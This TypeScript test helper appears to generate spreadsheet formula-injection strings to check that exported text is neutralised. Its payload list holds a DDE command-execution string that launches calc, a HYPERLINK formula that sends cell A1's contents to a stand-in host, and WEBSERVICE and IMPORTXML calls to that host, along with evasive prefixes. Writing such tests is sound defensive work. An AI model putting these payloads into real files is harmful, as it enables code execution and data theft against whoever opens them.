/** Texts that a spreadsheet would run, or hand on to a program that does. */
import type { Random } from '#tests/simulation/random.ts';

/** Signs that begin a formula, as themselves, in full width and as the small forms that are turned into them. */
export const formulaSigns = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫'] as const;
/** What a program may skip before it looks for one. */
const before = ['', '', '', '\t', '\r', '\n', '\r\n', ' ', '\u00a0', '\0', '\u200b', '\ufeff', '\u202e', ' \t '];
const orders = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("https://elsewhere.example/?"&A1;"Öppna")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("https://elsewhere.example")',
  'IMPORTXML("https://elsewhere.example","//a")',
  '2+5+cmd|x',
  '"="&A1',
  '(1)',
  '46 8 123',
];

/** In: luck. Out: one such text. */
export const makeFormulaText = (random: Random): string =>
  random.pick(before) +
  random.pick(formulaSigns) +
  random.pick(orders) +
  random.pick(['', '', ';=1+1', ',=1+1', '\n=1+1']);
